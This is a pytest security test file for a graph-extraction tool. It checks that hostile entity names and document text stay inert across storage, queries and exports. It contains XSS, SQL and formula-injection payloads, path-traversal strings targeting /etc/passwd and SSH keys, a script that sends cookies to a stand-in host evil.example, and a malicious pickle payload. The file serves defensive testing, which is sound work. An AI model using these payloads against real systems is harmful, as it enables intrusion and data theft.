"""Issue 6: names and text that look like markup, SQL, formulas or paths stay inert everywhere.

A test-local ruler pipeline turns hostile strings into entities, so they travel the whole
way: store, resolution, graph, every query and every export. A database is an input too:
one made by someone else must not be able to run code.
"""

from __future__ import annotations

import html
import json
import pickle
import re
import sqlite3
import xml.etree.ElementTree as ET
from pathlib import Path

import networkx as nx
import pytest
from click.testing import CliRunner
from pages import split_data_block

from graphkit.cli import cli
from graphkit.export import _script_json, sanitize_xml

# Surface forms the pipeline will call entities, and what each is meant to attack.
HOSTILE = {
    "markup": "<img src=x onerror=alert(1)> Smith",
    "script": "</script><script>alert(2)</script> Jones",
    "sql": "Robert'); DROP TABLE entities;-- Tables",
    "formula": "=cmd|' /C calc'!A0 Corp",
    "formula2": "@SUM(A1:A9) Holdings",
    "path": "../../etc/passwd Group",
    "template": "__TITLE__ {{7*7}} /*__DATA__*/ Partners",
    "xml": ']]></data><node id="x"/> Ltd',
    "controls": "Evil\x0bCorp\x1b[31m Ventures",  # decoding turns the controls into spaces before NER
}
PARAGRAPHS = [
    f"{HOSTILE['markup']} met {HOSTILE['sql']} and {HOSTILE['formula']} in Paris.",
    f"{HOSTILE['script']} wrote to {HOSTILE['path']} about {HOSTILE['formula2']}.",
    f"{HOSTILE['template']} paid {HOSTILE['xml']} via {HOSTILE['controls']}, said Alice Smith.",
    f"Alice Smith met {HOSTILE['markup']} in Paris; <b>bold</b> &amp; <!-- comment --> ' OR 1=1 --",
]


@pytest.fixture(scope="module")
def hostile_model(tmp_path_factory: pytest.TempPathFactory) -> str:
    """Ruler patterns that match each hostile string, token by token and in any case.

    Case-insensitive because shouted words are title-cased before NER (DROP -> Drop).
    """
    import spacy

    from graphkit.corpus import decode

    nlp = spacy.blank("en")
    patterns = [
        {"label": "ORG", "pattern": [{"LOWER": t.lower_} for t in nlp.make_doc(decode(text.encode())[0])]}
        for text in HOSTILE.values()
    ]
    patterns += [{"label": "PERSON", "pattern": "Alice Smith"}, {"label": "GPE", "pattern": "Paris"}]
    nlp.add_pipe("entity_ruler").add_patterns(patterns)
    path = tmp_path_factory.mktemp("models") / "hostile"
    nlp.to_disk(path)
    return str(path)


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory, hostile_model: str) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    docs = root / "docs"
    docs.mkdir()
    (docs / "leak.txt").write_text("\n".join(PARAGRAPHS) + "\n", encoding="utf-8")
    (docs / "page.html").write_text(
        "<html><head><title>x</title><script>fetch('https://evil.example/'+document.cookie)</script></head>"
        f"<body><p>{html.escape(PARAGRAPHS[0])}</p><p>{html.escape(PARAGRAPHS[2])}</p></body></html>",
        encoding="utf-8",
    )
    db = root / "h.db"
    result = CliRunner().invoke(
        cli, ["ingest", str(docs), "--db", str(db), "--model", hostile_model], catch_exceptions=False
    )
    assert result.exit_code == 0, result.output
    return db


def invoke(*args: object):
    return CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)


def names_in(db: Path) -> list[str]:
    result = invoke("entities", "--db", db, "--json")
    assert result.exit_code == 0, result.output
    return [r["name"] for r in json.loads(result.stdout)]


def test_hostile_strings_become_entities_and_the_store_survives(hostile_db):
    names = names_in(hostile_db)
    assert any("DROP TABLE entities" in n for n in names), names
    assert any("calc'!A0" in n for n in names), names
    assert "passwd Group" in names  # mention cleaning drops the leading '../../etc/'; renames test whole paths below
    con = sqlite3.connect(hostile_db)
    tables = {r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
    con.close()
    assert {"entities", "mentions", "paragraphs", "documents"} <= tables  # nothing was dropped
    # A hostile name works as a query argument too: bound as a parameter, never spliced into SQL.
    sql = next(n for n in names if "DROP TABLE" in n)
    result = invoke("neighbors", sql, "--db", hostile_db, "--json")
    assert result.exit_code == 0, result.output
    assert invoke("path", sql, "Alice Smith", "--db", hostile_db, "--json").exit_code == 0


def test_graphml_and_gexf_keep_hostile_names_as_text(tmp_path, hostile_db, tiny_db):
    names = set(names_in(hostile_db))
    for fmt, read in (("graphml", nx.read_graphml), ("gexf", nx.read_gexf)):
        out, benign = tmp_path / f"g.{fmt}", tmp_path / f"benign.{fmt}"
        assert invoke("export", "--format", fmt, "--out", out, "--db", hostile_db).exit_code == 0
        assert invoke("export", "--format", fmt, "--out", benign, "--db", tiny_db).exit_code == 0
        # Well-formed, and the markup in names opened no element a benign graph does not have.
        assert {el.tag for el in ET.parse(out).getroot().iter()} <= {el.tag for el in ET.parse(benign).getroot().iter()}
        graph = read(out)
        labels = {d.get("label", n) for n, d in graph.nodes(data=True)}
        assert {sanitize_xml(n) for n in names} <= labels | set(graph.nodes)
        formula = next(n for n in names if "calc" in n)
        assert formula in labels | set(graph.nodes)  # the formula is a string, exactly as written


def test_json_export_keeps_hostile_names_and_text_as_strings(tmp_path, hostile_db):
    out = tmp_path / "g.json"
    assert invoke("export", "--format", "json", "--out", out, "--db", hostile_db).exit_code == 0
    data = json.loads(out.read_text(encoding="utf-8"))
    names = {n["id"] for n in data["nodes"]}
    assert set(names_in(hostile_db)) == names
    texts = {e["text"] for edge in data["edges"] for e in edge["evidence"]}
    assert any("<b>bold</b>" in t for t in texts)  # JSON is data: it carries the text as written


def test_html_export_never_lets_document_text_out_of_its_data_block(tmp_path, hostile_db):
    out = tmp_path / "g.html"
    assert (
        invoke(
            "export", "--format", "html", "--out", out, "--db", hostile_db, "--title", "<script>alert(3)</script>"
        ).exit_code
        == 0
    )
    page = out.read_text(encoding="utf-8")
    data_block, outside = split_data_block(page)
    assert "<" not in data_block and ">" not in data_block
    payload = json.loads(data_block)
    assert any("DROP TABLE" in n["label"] for n in payload["nodes"])
    for needle in (
        "onerror=alert(1)",
        "<script>alert(2)",
        "alert(3)</script>",
        "<b>bold</b>",
        "<!-- comment -->",
        "evil.example",
        "{{7*7}}",
        "/*__DATA__*/ Partners",
        'id="x"',
    ):
        assert needle not in outside, needle
    assert "&lt;script&gt;alert(3)&lt;/script&gt;" in outside  # the title, escaped
    assert not re.search(r"(?:src|href)\s*=\s*[\"']?https?://", page, re.I)


def test_text_output_keeps_control_characters_out_of_the_terminal(hostile_db):
    result = invoke("entities", "--db", hostile_db)
    assert result.exit_code == 0
    assert "\x1b" not in result.stdout  # an escape sequence in a document cannot drive the terminal


def test_script_json_cannot_close_its_element():
    hostile = {"t": "</script><script>alert(1)</script><!--", "u": "\u2028\u2029", "a": "&amp;"}
    text = _script_json(hostile)
    assert not set("<>&") & set(text) and "\u2028" not in text
    assert json.loads(text) == hostile


def test_a_database_cannot_run_code_through_the_graph_cache(tmp_path, tiny_db):
    """The graph cache is a blob in the database file; a crafted one must be refused, not executed."""
    assert invoke("entities", "--db", tiny_db).exit_code == 0  # fills the cache
    marker = tmp_path / "pwned"

    class Payload:
        def __reduce__(self):
            return (open, (str(marker), "w"))

    con = sqlite3.connect(tiny_db)
    assert con.execute("UPDATE graph_cache SET data = ?", (pickle.dumps(Payload()),)).rowcount == 1
    con.commit()
    con.close()
    result = invoke("entities", "--db", tiny_db, "--json")
    assert not marker.exists(), "code in the database ran"
    assert result.exit_code == 0, result.output
    assert "Alice Smith" in {r["name"] for r in json.loads(result.stdout)}  # rebuilt from the tables


def test_a_garbage_graph_cache_is_rebuilt_not_a_traceback(tmp_path, tiny_db):
    assert invoke("entities", "--db", tiny_db).exit_code == 0
    con = sqlite3.connect(tiny_db)
    con.execute("UPDATE graph_cache SET data = ?", (b"\x80\x05garbage",))
    con.commit()
    con.close()
    result = invoke("central", "--db", tiny_db, "--json")
    assert result.exit_code == 0, result.output


CURATED_NAMES = [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "~/.ssh/id_rsa",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    "+1-1",
    "@SUM(1,2)",
    "-2+3",
    "<script>alert(1)</script>",
    "Robert'); DROP TABLE entities;--",
    "Bell\x07Tab\tEnd\x1b[2J",
]


@pytest.mark.parametrize("name", CURATED_NAMES)
def test_curated_names_are_inert_in_every_export(tmp_path, tiny_db, name, monkeypatch):
    """A name from a curation file (paths, formulas, markup, SQL, control characters) is only ever a label.

    graphkit writes no CSV; JSON, GraphML and GEXF carry a formula as the string it is, which
    is what keeps it inert, and exports go only where --out says.
    """
    monkeypatch.chdir(tmp_path)
    assert invoke("rename", "--db", tiny_db, "--", "Globex", name).exit_code == 0  # '--': '-2+3' is not an option

    def files() -> set[Path]:
        return {p for p in tmp_path.rglob("*") if not p.name.startswith(tiny_db.name)}

    before = files()
    out = tmp_path / "out"
    for fmt in ("graphml", "gexf", "json", "html"):
        assert invoke("export", "--format", fmt, "--out", out / f"g.{fmt}", "--db", tiny_db).exit_code == 0
    assert files() - before == {out, *(out / f"g.{fmt}" for fmt in ("graphml", "gexf", "json", "html"))}
    xml_name = sanitize_xml(name)
    assert xml_name in nx.read_graphml(out / "g.graphml")
    assert xml_name in {d["label"] for _, d in nx.read_gexf(out / "g.gexf").nodes(data=True)}
    assert not any(ch < " " and ch not in "\t\n\r" for ch in (out / "g.graphml").read_text(encoding="utf-8"))
    assert name in {n["id"] for n in json.loads((out / "g.json").read_text(encoding="utf-8"))["nodes"]}
    data, outside = split_data_block((out / "g.html").read_text(encoding="utf-8"))
    assert "<" not in data and name in {n["label"] for n in json.loads(data)["nodes"]}
    if "<" in name:
        assert name not in outside
    listed = json.loads(invoke("entities", "--db", tiny_db, "--json").stdout)
    assert name in {r["name"] for r in listed}
